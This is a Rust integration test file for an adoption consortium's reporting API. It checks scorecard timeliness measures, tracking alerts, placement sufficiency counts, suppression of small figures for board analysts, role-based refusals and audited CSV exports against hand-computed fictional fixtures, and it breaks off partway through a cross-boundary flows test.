//! Board reports through GraphQL and CSV: the scorecard against a hand-computed fixture,
//! tracking boundaries, sufficiency counts, and disclosure control for board analysts and
//! for managers looking beyond their own authority.
use serde_json::{Value, json};

use crate::both_backends;
use crate::helpers::{
    TestApp, approved_household, assert_refusal, create_child, error_code, error_field,
};

const MILESTONES: &str = "mutation($input: RecordChildMilestonesInput!) { recordChildMilestones(input: $input) { child { version } } }";
const DECISION: &str = "mutation($input: RecordChildDecisionInput!) { recordChildDecision(input: $input) { child { version } } }";

/// The dates of a fixture child; `None` leaves a milestone unrecorded.
#[derive(Default, Clone, Copy)]
pub(crate) struct Dates {
    pub(crate) entered: &'static str,
    pub(crate) plan: Option<&'static str>,
    pub(crate) shobpa: Option<&'static str>,
    pub(crate) order: Option<&'static str>,
    pub(crate) matched: Option<&'static str>,
    pub(crate) placed: Option<&'static str>,
    pub(crate) adopted: Option<&'static str>,
    pub(crate) foster_started: Option<&'static str>,
    pub(crate) plan_changed: Option<&'static str>,
    pub(crate) born: Option<&'static str>,
}

/// Creates a child in `authority` and records `dates` the way staff would: the social
/// worker the milestones, the decision maker the decisions. Returns the child's id.
pub(crate) async fn child_with(app: &TestApp, authority: &str, name: &str, d: Dates) -> String {
    let sw = app.role(authority, "SOCIAL_WORKER");
    let dm = app.role(authority, "DECISION_MAKER");
    let born = d.born.unwrap_or("2020-06-01");
    let (id, mut v) = create_child(
        app,
        authority,
        name,
        json!({ "dateOfBirth": born, "enteredCareOn": d.entered }),
    )
    .await;
    let version = |data: &Value, field: &str| data[field]["child"]["version"].as_i64().unwrap();
    let mut input = json!({ "id": id, "expectedVersion": v });
    for (key, value) in [("adoptionPlanOn", d.plan), ("placementOrderOn", d.order)] {
        if let Some(value) = value {
            input[key] = json!(value);
        }
    }
    v = version(
        &app.ok(&sw, MILESTONES, json!({ "input": input })).await,
        "recordChildMilestones",
    );
    for (decision, on) in [("SHOBPA", d.shobpa), ("MATCH", d.matched)] {
        if let Some(on) = on {
            let input =
                json!({ "id": id, "expectedVersion": v, "decision": decision, "decidedOn": on });
            v = version(
                &app.ok(&dm, DECISION, json!({ "input": input })).await,
                "recordChildDecision",
            );
        }
    }
    let mut input = json!({ "id": id, "expectedVersion": v });
    for (key, value) in [
        ("placedOn", d.placed),
        ("adoptionOrderOn", d.adopted),
        ("fosterPlacementStartedOn", d.foster_started),
    ] {
        if let Some(value) = value {
            input[key] = json!(value);
        }
    }
    if d.foster_started.is_some() {
        input["adoptedByFosterCarers"] = json!(true);
    }
    v = version(
        &app.ok(&sw, MILESTONES, json!({ "input": input })).await,
        "recordChildMilestones",
    );
    if let Some(on) = d.plan_changed {
        let input = json!({ "id": id, "expectedVersion": v, "changedOn": on, "reason": "RD3" });
        app.ok(&sw, "mutation($input: ChangeChildPlanInput!) { changeChildPlan(input: $input) { child { id } } }", json!({ "input": input }))
            .await;
    }
    id
}

/// The dates of a child adopted the usual way: in care, plan, SHOBPA, placement order,
/// match, placed, adoption order.
pub(crate) fn adopted(dates: [&'static str; 7]) -> Dates {
    let [entered, plan, shobpa, order, matched, placed, adopted] = dates.map(Some);
    Dates {
        entered: entered.unwrap(),
        plan,
        shobpa,
        order,
        matched,
        placed,
        adopted,
        ..Default::default()
    }
}

/// The scorecard fixture: four alder children adopted in 2023-24, two birch children, and
/// children outside the cohort.
async fn scorecard_fixture(app: &TestApp) {
    #[rustfmt::skip]
    let children = [
        // c1: in care 2022-01-10 → placed 2022-10-01 = 264 days; order 2022-06-01 → match
        //     2022-09-01 = 92 days; adopted 2023-05-01.
        ("alder", "C1", adopted(["2022-01-10", "2022-03-01", "2022-04-01", "2022-06-01", "2022-09-01", "2022-10-01", "2023-05-01"])),
        // c2: early permanence — matched 2022-03-01 before the order of 2022-04-01: A2 counts
        //     0. In care 2021-11-15 → placed 2022-04-20 = 156 days; adopted 2023-09-15.
        ("alder", "C2", Dates {
            born: Some("2021-10-01"),
            ..adopted(["2021-11-15", "2022-01-10", "2022-02-01", "2022-04-01", "2022-03-01", "2022-04-20", "2023-09-15"])
        }),
        // c3: adopted by foster carers. In care 2021-06-01 → placed 2023-01-10 = 588 days
        //     (A1); foster placement from 2021-07-01 = 30 days (A10); order 2022-01-01 →
        //     match 2022-12-01 = 334 days; adopted 2023-12-01.
        ("alder", "C3", Dates {
            foster_started: Some("2021-07-01"),
            ..adopted(["2021-06-01", "2021-08-01", "2021-09-01", "2022-01-01", "2022-12-01", "2023-01-10", "2023-12-01"])
        }),
        // c4: placed on the day of the adoption order, so not "placed before the order": out
        //     of A2. In care 2022-02-01 → placed 2024-01-15 = 713 days; adopted 2024-01-15.
        ("alder", "C4", adopted(["2022-02-01", "2022-03-01", "2022-04-01", "2022-05-01", "2022-06-01", "2024-01-15", "2024-01-15"])),
        // c5: adopted 2024-04-02, after the period: not in the cohort.
        ("alder", "C5", adopted(["2022-01-01", "2022-02-01", "2022-03-01", "2022-04-01", "2022-05-01", "2023-06-01", "2024-04-02"])),
        // c6: plan changed away from adoption: never in the cohort.
        ("alder", "C6", Dates {
            entered: "2022-01-01",
            plan: Some("2022-02-01"),
            plan_changed: Some("2023-01-01"),
            ..Default::default()
        }),
        // birch b1: in care 2022-01-01 → placed 2023-03-01 = 424 days; order 2022-05-01 →
        //     match 2022-08-01 = 92; adopted 2023-10-01.
        ("birch", "B1", adopted(["2022-01-01", "2022-02-01", "2022-03-01", "2022-05-01", "2022-08-01", "2023-03-01", "2023-10-01"])),
        // birch b2: in care 2022-01-01 → placed 2023-06-01 = 516 days; order 2022-06-01 →
        //     match 2022-10-01 = 122; adopted 2024-02-01.
        ("birch", "B2", adopted(["2022-01-01", "2022-02-01", "2022-03-01", "2022-06-01", "2022-10-01", "2023-06-01", "2024-02-01"])),
    ];
    for (authority, name, dates) in children {
        child_with(app, authority, name, dates).await;
    }
}

const SCORECARD: &str = r#"query($authorityIds: [ID!]) {
  scorecard(asOf: "2024-06-30", authorityIds: $authorityIds) {
    period {
      from to
      total { suppressionApplied cohort { value suppressed } a1 { days { value suppressed } met } }
      authorities {
        authority { code } suppressionApplied
        cohort { value suppressed }
        a1 { days { value suppressed } cohort { value suppressed } thresholdDays met }
        a10 { days { value suppressed } cohort { value suppressed } met }
        a2 { days { value suppressed } cohort { value suppressed } thresholdDays met }
        a3 { count { value suppressed } percent { value suppressed } cohort { value suppressed } thresholdDays }
      }
    }
    years { from to authorities { authority { code } cohort { value suppressed } } }
  }
}"#;

fn row<'a>(data: &'a Value, code: &str) -> &'a Value {
    data["scorecard"]["period"]["authorities"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["authority"]["code"] == code)
        .unwrap_or_else(|| panic!("no row for {code}: {data:#}"))
}

/// The CSV export at `path` as `token` receives it (a success).
async fn export(app: &TestApp, token: &str, path: &str) -> String {
    let response = app.get(path).bearer_auth(token).send().await.unwrap();
    assert_eq!(response.status(), 200, "{path}");
    response.text().await.unwrap()
}

/// Variables naming alder alone under `key`.
fn alder_only(app: &TestApp, key: &str) -> Value {
    json!({ key: [app.authority_id("alder")] })
}

both_backends!(
    the_scorecard_matches_the_hand_computed_fixture,
    board_analysts_and_other_authorities_see_suppressed_figures
);

async fn the_scorecard_matches_the_hand_computed_fixture(app: TestApp) {
    scorecard_fixture(&app).await;
    let manager = app.role("alder", "MANAGER");
    let data = app
        .ok(&manager, SCORECARD, alder_only(&app, "authorityIds"))
        .await;
    // The default period: the three years to the latest 31 March on or before 2024-06-30.
    assert_eq!(data["scorecard"]["period"]["from"], "2021-04-01");
    assert_eq!(data["scorecard"]["period"]["to"], "2024-03-31");
    let alder = row(&data, "alder");
    assert_eq!(alder["suppressionApplied"], false);
    // Cohort: c1, c2, c3, c4 (c5 adopted after the period, c6 never).
    assert_eq!(alder["cohort"]["value"], 4);
    // A1 = (264 + 156 + 588 + 713) / 4 = 1721 / 4 = 430.25 → 430, over the 426 threshold.
    assert_eq!(alder["a1"]["days"]["value"], 430);
    assert_eq!(alder["a1"]["cohort"]["value"], 4);
    assert_eq!(alder["a1"]["thresholdDays"], 426);
    assert_eq!(alder["a1"]["met"], false);
    // A10 = (264 + 156 + 30 + 713) / 4 = 1163 / 4 = 290.75 → 291.
    assert_eq!(alder["a10"]["days"]["value"], 291);
    assert_eq!(alder["a10"]["met"], true);
    // A2 over c1, c2, c3 (c4 not placed before the order) = (92 + 0 + 334) / 3 = 142.
    assert_eq!(alder["a2"]["days"]["value"], 142);
    assert_eq!(alder["a2"]["cohort"]["value"], 3);
    assert_eq!(alder["a2"]["thresholdDays"], 121);
    assert_eq!(alder["a2"]["met"], false);
    // A3: c1 (264) and c2 (156) within 426 days: 2 of 4 = 50 %.
    assert_eq!(alder["a3"]["count"]["value"], 2);
    assert_eq!(alder["a3"]["percent"]["value"], 50.0);
    assert_eq!(alder["a3"]["cohort"]["value"], 4);
    // Year by year: 2021-22 none, 2022-23 c1 (2023-05-01 is in 2023-24!) ... so 2023-24 holds all four.
    let years = data["scorecard"]["years"].as_array().unwrap();
    assert_eq!(years.len(), 3);
    let cohorts: Vec<Value> = years
        .iter()
        .map(|y| y["authorities"][0]["cohort"]["value"].clone())
        .collect();
    assert_eq!(cohorts, vec![json!(0), json!(0), json!(4)]);

    // With an explicit one-year period and both authorities, as a board analyst would ask
    // but as a decision maker of both: birch A1 = (424 + 516) / 2 = 470; A2 = (92 + 122) / 2 = 107.
    let both = app.token(
        "dm-both",
        &[
            ("alder", &["DECISION_MAKER"]),
            ("birch", &["DECISION_MAKER"]),
        ],
    );
    let q = SCORECARD.replace(
        "scorecard(asOf: \"2024-06-30\",",
        "scorecard(asOf: \"2024-06-30\", period: { from: \"2023-04-01\", to: \"2024-03-31\" },",
    );
    let data = app
        .ok(
            &both,
            &q,
            json!({ "authorityIds": [app.authority_id("alder"), app.authority_id("birch")] }),
        )
        .await;
    let birch = row(&data, "birch");
    assert_eq!(birch["cohort"]["value"], 2);
    assert_eq!(birch["a1"]["days"]["value"], 470);
    assert_eq!(birch["a2"]["days"]["value"], 107);
    assert_eq!(birch["a2"]["met"], true);
    // Total: 6 children; A1 = (1721 + 940) / 6 = 2661 / 6 = 443.5 → 444 (halves up).
    let total = &data["scorecard"]["period"]["total"];
    assert_eq!(total["cohort"]["value"], 6);
    assert_eq!(total["a1"]["days"]["value"], 444);
}

async fn board_analysts_and_other_authorities_see_suppressed_figures(app: TestApp) {
    scorecard_fixture(&app).await;
    let analyst = app.token_with("analyst", "demo", &[], &["BOARD_ANALYST"]);
    let hidden = json!({ "value": null, "suppressed": true });
    let every: Vec<String> = ["alder", "birch", "cedar", "damson", "elm"]
        .iter()
        .map(|c| app.authority_id(c))
        .collect();
    let ids = json!({ "authorityIds": every });

    // Figures beyond one's own authorities come from the quarterly publication: before one
    // is made there is nothing to answer from, and the analyst is told so.
    let body = app.gql(Some(&analyst), SCORECARD, json!({})).await;
    assert_refusal(&body, "BAD_USER_INPUT", Some("asOf"));
    app.publish("demo", "2024-06-30").await;

    // The whole consortium (no authorities named, or all of them): the same answer.
    let data = app.ok(&analyst, SCORECARD, json!({})).await;
    assert_eq!(data, app.ok(&analyst, SCORECARD, ids.clone()).await);
    assert_eq!(data["scorecard"]["period"]["from"], "2021-04-01");
    assert_eq!(data["scorecard"]["period"]["to"], "2024-03-31");
    for code in ["alder", "birch"] {
        let r = row(&data, code);
        assert_eq!(r["suppressionApplied"], true);
        // Cohorts of 4 and 2: counts of 1–5 are withheld; means over ≤ 10 children too.
        assert_eq!(r["cohort"], hidden, "{code}");
        assert_eq!(r["a1"]["days"], hidden);
        assert_eq!(r["a1"]["met"], Value::Null, "no verdict on a withheld mean");
        assert_eq!(r["a3"]["percent"], hidden);
    }
    // Zero stays zero.
    assert_eq!(
        row(&data, "cedar")["cohort"],
        json!({ "value": 0, "suppressed": false })
    );
    // A total of 6 made of alder's 4 and birch's 2 alone: alder's members know their 4,
    // so the total shown would give birch's 2 away to them. It is withheld for everyone,
    // the analyst included — one decision for every reader.
    let total = &data["scorecard"]["period"]["total"];
    assert_eq!(total["cohort"], hidden);
    assert_eq!(total["suppressionApplied"], true);
    let years = data["scorecard"]["years"].as_array().unwrap();
    assert_eq!(years.len(), 3);
    assert_eq!(
        years[0]["authorities"][0]["cohort"],
        json!({ "value": 0, "suppressed": false }),
        "nothing adopted in 2021-22"
    );
    assert!(
        !data.to_string().contains("C1 Testchild"),
        "no record-level data"
    );

    // One authority alone is a published table too, with the same cells.
    let alone = app
        .ok(&analyst, SCORECARD, alder_only(&app, "authorityIds"))
        .await;
    assert_eq!(alone["scorecard"]["period"]["total"]["cohort"], hidden);
    assert_eq!(
        alone["scorecard"]["period"]["authorities"][0],
        *row(&data, "alder")
    );
    // One of the window's years, as published with the window.
    let year = app
        .ok(
            &analyst,
            &SCORECARD.replace(
                "asOf: \"2024-06-30\"",
                "asOf: \"2024-06-30\", period: { from: \"2023-04-01\", to: \"2024-03-31\" }",
            ),
            json!({}),
        )
        .await;
    assert_eq!(
        year["scorecard"]["period"]["authorities"][0]["cohort"],
        years[2]["authorities"][0]["cohort"]
    );
    // Anything else is refused, naming what may be asked.
    let two = json!({ "authorityIds": [app.authority_id("alder"), app.authority_id("birch")] });
    let body = app.gql(Some(&analyst), SCORECARD, two.clone()).await;
    assert_refusal(&body, "BAD_USER_INPUT", Some("authorityIds"));
    for (what, replacement, field) in [
        (
            "a period that is not published",
            "asOf: \"2024-06-30\", period: { from: \"2023-01-01\", to: \"2023-12-31\" }",
            "period",
        ),
        ("a day that ends no quarter", "asOf: \"2024-06-29\"", "asOf"),
        ("a quarter not published", "asOf: \"2024-03-31\"", "asOf"),
    ] {
        let q = SCORECARD.replace("asOf: \"2024-06-30\"", replacement);
        let body = app.gql(Some(&analyst), &q, json!({})).await;
        assert_refusal(&body, "BAD_USER_INPUT", Some(field));
        let message = body["errors"][0]["message"].as_str().unwrap();
        assert!(
            message.contains("2024-06-30") || message.contains("2021-04-01..2024-03-31"),
            "{what}: the refusal names what may be asked: {message}"
        );
    }

    // The next quarter's publication holds the same window: decided with the first, it
    // shows and withholds every figure of it alike.
    app.publish("demo", "2024-09-30").await;
    let next = app
        .ok(
            &analyst,
            &SCORECARD.replace("2024-06-30", "2024-09-30"),
            json!({}),
        )
        .await;
    assert_eq!(next["scorecard"]["period"], data["scorecard"]["period"]);
    assert_eq!(next["scorecard"]["years"], data["scorecard"]["years"]);

    // A manager of alder naming the whole consortium reads the same publication: alder as
    // it is (its own), every other cell as the analyst sees it.
    let manager = app.role("alder", "MANAGER");
    let mine = app.ok(&manager, SCORECARD, ids.clone()).await;
    assert_eq!(row(&mine, "alder")["cohort"]["value"], 4);
    assert_eq!(row(&mine, "alder")["suppressionApplied"], false);
    for code in ["birch", "cedar", "damson", "elm"] {
        assert_eq!(row(&mine, code), row(&data, code), "{code}");
    }
    assert_eq!(mine["scorecard"]["period"]["total"], *total);
    // Alder with one other authority is no published table.
    let body = app.gql(Some(&manager), SCORECARD, two.clone()).await;
    assert_refusal(&body, "BAD_USER_INPUT", Some("authorityIds"));

    // Roles without the report are refused.
    for role in ["SOCIAL_WORKER", "FAMILY_FINDER", "RECRUITMENT_OFFICER"] {
        let body = app
            .gql(Some(&app.role("alder", role)), SCORECARD, ids.clone())
            .await;
        assert_eq!(error_code(&body).as_deref(), Some("FORBIDDEN"), "{role}");
    }
    let other = app.token_with("other-analyst", "other", &[], &["BOARD_ANALYST"]);
    let body = app.gql(Some(&other), SCORECARD, ids.clone()).await;
    assert_eq!(error_code(&body).as_deref(), Some("NOT_FOUND"));

    // The same cells in the CSV export, withheld ones written as `c`, and the export is
    // audited.
    let csv = |token: String| {
        let url = format!(
            "{}/export/scorecard.csv?asOf=2024-06-30&authorities=alder,birch,cedar,damson,elm",
            app.address
        );
        let client = app.client.clone();
        async move { client.get(url).bearer_auth(token).send().await.unwrap() }
    };
    let response = csv(analyst.clone()).await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = response.text().await.unwrap();
    let cohort_line = |text: &str, who: &str| {
        text.lines()
            .find(|l| {
                l.starts_with("2021-04-01,2024-03-31,") && l.contains(&format!(",{who},COHORT,"))
            })
            .unwrap_or_else(|| panic!("no cohort line for {who} in {text}"))
            .to_owned()
    };
    let managers = csv(manager.clone()).await.text().await.unwrap();
    // Each figure set says whether disclosure control applies to it, as the answer does.
    for (reader, text, who, figures, applied) in [
        ("the analyst", &text, "alder", "c,c", true),
        ("the analyst", &text, "cedar", "0,0", true),
        ("the analyst", &text, "TOTAL", "c,c", true),
        ("alder's manager", &managers, "alder", "4,4", false),
        ("alder's manager", &managers, "birch", "c,c", true),
        ("alder's manager", &managers, "TOTAL", "c,c", true),
    ] {
        assert_eq!(
            cohort_line(text, who),
            format!("2021-04-01,2024-03-31,{who},COHORT,{figures},,,{applied}"),
            "{reader}"
        );
    }
    assert_eq!(
        text.lines().next(),
        Some(
            "period_from,period_to,authority,measure,value,cohort,threshold_days,met,suppression_applied"
        )
    );
    let refused = csv(app.role("alder", "SOCIAL_WORKER")).await;
    assert_eq!(refused.status(), 403);
    let anonymous = app.get("/export/scorecard.csv").send().await.unwrap();
    assert_eq!(anonymous.status(), 401);

    app.flush_audit().await;
    let admin = app.token_with("admin", "demo", &[], &["CONSORTIUM_ADMIN"]);
    let log = app
        .ok(&admin, r#"{ auditLog(filter: { action: EXPORT }, first: 10) { totalCount edges { node { entityType subject } } } }"#, json!({}))
        .await;
    assert_eq!(
        log["auditLog"]["totalCount"], 2,
        "two successful exports: {log:#}"
    );
    assert_eq!(
        log["auditLog"]["edges"][0]["node"]["entityType"],
        "Scorecard"
    );
}

const TRACKING: &str = r#"query($asOf: Date!) {
  trackingAlerts(asOf: $asOf) { totalCount edges { node { kind daysOverdue since projectedA1Days projectedOverThreshold child { profileName } } } }
}"#;

both_backends!(
    tracking_alerts_start_the_day_after_each_timescale,
    sufficiency_counts_placement_units
);

async fn tracking_alerts_start_the_day_after_each_timescale(app: TestApp) {
    // In care 2024-01-01, placement order 2024-03-01, no match.
    child_with(
        &app,
        "alder",
        "Waiting",
        Dates {
            entered: "2024-01-01",
            plan: Some("2024-01-15"),
            shobpa: Some("2024-02-01"),
            order: Some("2024-03-01"),
            born: Some("2023-06-01"),
            ..Default::default()
        },
    )
    .await;
    // A birch child long overdue: never in alder's list.
    child_with(
        &app,
        "birch",
        "Elsewhere",
        Dates {
            entered: "2021-01-01",
            plan: Some("2021-02-01"),
            order: Some("2021-03-01"),
            born: Some("2020-06-01"),
            ..Default::default()
        },
    )
    .await;
    let sw = app.role("alder", "SOCIAL_WORKER");
    let alerts = |as_of: &'static str| {
        let app = &app;
        let sw = sw.clone();
        async move { app.ok(&sw, TRACKING, json!({ "asOf": as_of })).await["trackingAlerts"].clone() }
    };
    // Day 90 after the order (2024-05-30): nothing; day 91: refer wider, 1 day overdue.
    assert_eq!(alerts("2024-05-30").await["totalCount"], 0);
    let a = alerts("2024-05-31").await;
    assert_eq!(a["totalCount"], 1);
    assert_eq!(
        a["edges"][0]["node"]["kind"],
        "PLACEMENT_ORDER_NO_MATCH_90_DAYS"
    );
    assert_eq!(a["edges"][0]["node"]["daysOverdue"], 1);
    assert_eq!(a["edges"][0]["node"]["child"]["profileName"], "Waiting");
    // 121 days after the order is 2024-06-30.
    assert_eq!(alerts("2024-06-30").await["totalCount"], 1);
    assert_eq!(alerts("2024-07-01").await["totalCount"], 2);
    // 426 days in care: 2025-03-02; the alert on 2025-03-03, when the projection is 427.
    let kinds = |a: &Value| -> Vec<String> {
        a["edges"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["node"]["kind"].as_str().unwrap().to_owned())
            .collect()
    };
    assert!(
        !kinds(&alerts("2025-03-02").await)
            .contains(&"IN_CARE_OVER_426_DAYS_NOT_PLACED".to_owned())
    );
    let a = alerts("2025-03-03").await;
    assert!(kinds(&a).contains(&"IN_CARE_OVER_426_DAYS_NOT_PLACED".to_owned()));
    let node = a["edges"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["node"]["kind"] == "IN_CARE_OVER_426_DAYS_NOT_PLACED")
        .unwrap();
    assert_eq!(node["node"]["projectedA1Days"], 427);
    assert_eq!(node["node"]["projectedOverThreshold"], true);
    // 18 months after 2024-01-01 is 2025-07-01.
    assert!(
        !kinds(&alerts("2025-07-01").await)
            .contains(&"EIGHTEEN_MONTHS_SINCE_ENTERING_CARE".to_owned())
    );
    assert!(
        kinds(&alerts("2025-07-02").await)
            .contains(&"EIGHTEEN_MONTHS_SINCE_ENTERING_CARE".to_owned())
    );
    // Ordered by days overdue, most first.
    let a = alerts("2025-07-02").await;
    let overdue: Vec<i64> = a["edges"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["node"]["daysOverdue"].as_i64().unwrap())
        .collect();
    assert!(overdue.windows(2).all(|w| w[0] >= w[1]), "{overdue:?}");
    // Own authority only.
    let body = app
        .gql(
            Some(&sw),
            "query($a: [ID!]) { trackingAlerts(authorityIds: $a) { totalCount } }",
            json!({ "a": [app.authority_id("birch")] }),
        )
        .await;
    assert_eq!(error_code(&body).as_deref(), Some("FORBIDDEN"));
    let analyst = app.token_with("analyst", "demo", &[], &["BOARD_ANALYST"]);
    let body = app
        .gql(Some(&analyst), TRACKING, json!({ "asOf": "2025-07-02" }))
        .await;
    assert_eq!(error_code(&body).as_deref(), Some("FORBIDDEN"));
}

const SUFFICIENCY: &str = r#"query($a: [ID!]) {
  sufficiency(asOf: "2025-06-30", authorityIds: $a) {
    suppressionApplied
    rows { characteristic children { value suppressed } units { value suppressed } households { value suppressed } gap }
  }
}"#;

/// Reads the version of the `kind` (its field and type names) `id` and updates it with
/// `fields` at that version.
async fn update(app: &TestApp, token: &str, (field, kind): (&str, &str), id: &str, fields: Value) {
    let query = format!("query($id: ID!) {{ {field}(id: $id) {{ version }} }}");
    let version = app.ok(token, &query, json!({ "id": id })).await[field]["version"].clone();
    let mut input = json!({ "id": id, "expectedVersion": version });
    input
        .as_object_mut()
        .unwrap()
        .extend(fields.as_object().unwrap().clone());
    let mutation = format!(
        "mutation($input: Update{kind}Input!) {{ update{kind}(input: $input) {{ {field} {{ id }} }} }}"
    );
    app.ok(token, &mutation, json!({ "input": input })).await;
}

async fn sufficiency_counts_placement_units(app: TestApp) {
    let sw = app.role("alder", "SOCIAL_WORKER");
    let waiting = |born: &'static str| Dates {
        entered: "2022-01-01",
        plan: Some("2022-02-01"),
        shobpa: Some("2022-03-01"),
        born: Some(born),
        ..Default::default()
    };
    // Four waiting children in three placement units: an older child (6 on 2025-06-30), a
    // child with a disability, and two siblings who must stay together.
    child_with(&app, "alder", "Older", waiting("2019-01-01")).await;
    let disabled = child_with(&app, "alder", "Needs", waiting("2021-01-01")).await;
    let needs = json!({ "needs": { "disability": "MEDIUM" }, "ethnicity": "MIXED" });
    update(&app, &sw, ("child", "Child"), &disabled, needs).await;
    let s1 = child_with(&app, "alder", "Sib One", waiting("2021-03-01")).await;
    let s2 = child_with(&app, "alder", "Sib Two", waiting("2022-01-01")).await;
    app.ok(
        &sw,
        "mutation($input: CreateSiblingGroupInput!) { createSiblingGroup(input: $input) { siblingGroup { id } } }",
        json!({ "input": { "childIds": [s1, s2], "label": "Sibs", "mustStayTogether": true } }),
    )
    .await;
    // An adopted child does not wait.
    #[rustfmt::skip]
    let dates = adopted(["2021-01-01", "2021-02-01", "2021-03-01", "2021-04-01", "2021-05-01", "2021-06-01", "2022-01-01"]);
    child_with(&app, "alder", "Adopted", dates).await;
    // Two approved households: one takes siblings up to 6 years old, one a disability.
    let a = approved_household(&app, "alder", "Wide").await;
    let b = approved_household(&app, "alder", "Narrow").await;
    let ro = app.role("alder", "RECRUITMENT_OFFICER");
    for (id, approval) in [
        (
            &a,
            json!({ "capacity": 2, "ageMaxMonths": 72, "acceptsSiblings": true }),
        ),
        (
            &b,
            json!({ "acceptsNeeds": { "disability": "HIGH" }, "ageMaxMonths": 48 }),
        ),
    ] {
        let approval = json!({ "approval": approval });
        update(&app, &ro, ("household", "Household"), id, approval).await;
    }
    let manager = app.role("alder", "MANAGER");
    let data = app.ok(&manager, SUFFICIENCY, alder_only(&app, "a")).await;
    let rows = data["sufficiency"]["rows"].as_array().unwrap();
    let get = |c: &str| {
        rows.iter()
            .find(|r| r["characteristic"] == c)
            .unwrap()
            .clone()
    };
    let v = |r: &Value, k: &str| r[k]["value"].clone();
    // All: 4 children in 3 units; 2 households; gap 2 − 3 = −1.
    let all = get("ALL");
    assert_eq!(
        (
            v(&all, "children"),
            v(&all, "units"),
            v(&all, "households"),
            all["gap"].clone()
        ),
        (json!(4), json!(3), json!(2), json!(-1))
    );
    // The sibling group is one unit of two children; one household takes it.
    let sib = get("SIBLING_GROUP");
    assert_eq!(
        (v(&sib, "children"), v(&sib, "units"), v(&sib, "households")),
        (json!(2), json!(1), json!(1))
    );
    let older = get("AGED_FIVE_PLUS");
    assert_eq!(
        (v(&older, "units"), v(&older, "households")),
        (json!(1), json!(1))
    );
    let disability = get("DISABILITY");
    assert_eq!(
        (v(&disability, "units"), v(&disability, "households")),
        (json!(1), json!(1))
    );
    let minority = get("ETHNIC_MINORITY");
    assert_eq!(
        (v(&minority, "units"), v(&minority, "households")),
        (json!(1), json!(0))
    );

    // A board analyst sees the same, from the publication of the quarter, with small
    // counts withheld and no gap where a side is.
    let analyst = app.token_with("analyst", "demo", &[], &["BOARD_ANALYST"]);
    app.publish("demo", "2025-06-30").await;
    let data = app.ok(&analyst, SUFFICIENCY, alder_only(&app, "a")).await;
    assert_eq!(data["sufficiency"]["suppressionApplied"], true);
    let all = data["sufficiency"]["rows"][0].clone();
    assert_eq!(all["units"], json!({ "value": null, "suppressed": true }));
    assert_eq!(all["gap"], Value::Null);
    let csv = export(
        &app,
        &analyst,
        "/export/sufficiency.csv?asOf=2025-06-30&authorities=alder",
    )
    .await;
    assert!(csv.lines().any(|l| l == "2025-06-30,ALL,c,c,c,c"), "{csv}");
    // Nothing waits in birch: its zero is shown, or withheld where showing it would let
    // alder's small figures be worked out from the consortium's — never another figure.
    let birch = json!({ "a": [app.authority_id("birch")] });
    let data = app.ok(&analyst, SUFFICIENCY, birch).await;
    let children = &data["sufficiency"]["rows"][0]["children"];
    assert!(
        *children == json!({ "value": 0, "suppressed": false })
            || *children == json!({ "value": null, "suppressed": true }),
        "{children}"
    );
    // A date that is not a published quarter end is refused, naming the one there is.
    let q = SUFFICIENCY.replace("2025-06-30", "2025-06-29");
    let body = app.gql(Some(&analyst), &q, alder_only(&app, "a")).await;
    assert_refusal(&body, "BAD_USER_INPUT", Some("asOf"));
    assert!(body.to_string().contains("2025-06-30"), "{body}");
}

const LINK: &str = "link { id version state }";

/// Takes a pool child of `child_authority` through to placement with an approved household
/// of `household_authority` today (a link's steps cannot precede its proposal), with an
/// inter-agency fee when cross-boundary.
pub(crate) async fn placement(
    app: &TestApp,
    child_authority: &str,
    household_authority: &str,
    name: &str,
    fee: Option<i64>,
) {
    let today = chrono::Utc::now().date_naive().to_string();
    let child = crate::helpers::pool_child(app, child_authority, name).await;
    let household = approved_household(app, household_authority, &format!("{name} Family")).await;
    let ff = app.role(child_authority, "FAMILY_FINDER");
    let household_ref = if child_authority == household_authority {
        household.clone()
    } else {
        let (_, n) = crate::helpers::decode_id(&household);
        crate::helpers::encode_id("HouseholdProfile", n)
    };
    let mut input = json!({ "childId": child, "householdId": household_ref });
    if let Some(fee) = fee {
        input["interAgencyFeePence"] = json!(fee);
    }
    let propose =
        format!("mutation($i: ProposeLinkInput!) {{ proposeLink(input: $i) {{ {LINK} }} }}");
    let mut link =
        app.ok(&ff, &propose, json!({ "i": input })).await["proposeLink"]["link"].clone();
    let other = app.role(household_authority, "DECISION_MAKER");
    let accept = format!("mutation($i: AcceptLinkInput!) {{ acceptLink(input: $i) {{ {LINK} }} }}");
    let vars = json!({ "i": { "id": link["id"], "expectedVersion": link["version"] } });
    link = app.ok(&other, &accept, vars).await["acceptLink"]["link"].clone();
    let dm = app.role(child_authority, "DECISION_MAKER");
    let decide = format!(
        "mutation($i: RecordMatchDecisionInput!) {{ recordMatchDecision(input: $i) {{ {LINK} }} }}"
    );
    let vars = json!({ "i": { "id": link["id"], "expectedVersion": link["version"], "decidedOn": today } });
    link = app.ok(&dm, &decide, vars).await["recordMatchDecision"]["link"].clone();
    let place = format!(
        "mutation($i: RecordPlacementInput!) {{ recordPlacement(input: $i) {{ {LINK} }} }}"
    );
    let vars =
        json!({ "i": { "id": link["id"], "expectedVersion": link["version"], "placedOn": today } });
    app.ok(&dm, &place, vars).await;
}

const FLOWS: &str = r#"query($a: [ID!], $period: PeriodInput!) {
  crossBoundaryFlows(period: $period, authorityIds: $a) {
    suppressionApplied
    cells { childAuthority { code } householdAuthority { code } children { value suppressed } feesPence { value suppressed } }
    byChildAuthority { authority { code } children { value suppressed } }
    byHouseholdAuthority { authority { code } children { value suppressed } }
    total { children { value suppressed } feesPence { value suppressed } }
    crossBoundaryChildren { value suppressed } crossBoundaryPercent { value suppressed }
    crossBoundaryFeesPence { value suppressed }
  }
}"#;

both_backends!(cross_boundary_flows_match_hand_counts);

async fn cross_boundary_flows_match_hand_counts(app: TestApp) {
    // Placed in the period: alder → alder ×2, alder → birch ×1 (fee £27,000), birch → elm
    // ×1 (fee £27,000).
    placement(&app, "alder", "alder", "In House One", None).await;
    placement(&app, "alder", "alder", "In House Two", None).await;
    placement(&app, "alder", "birch", "Across", Some(2_700_000)).await;
    placement(&app, "birch", "elm", "Agency", Some(2_700_000)).await;
    let today = chrono::Utc::now().date_naive();
    let year_ago = today - chrono::Days::new(365);
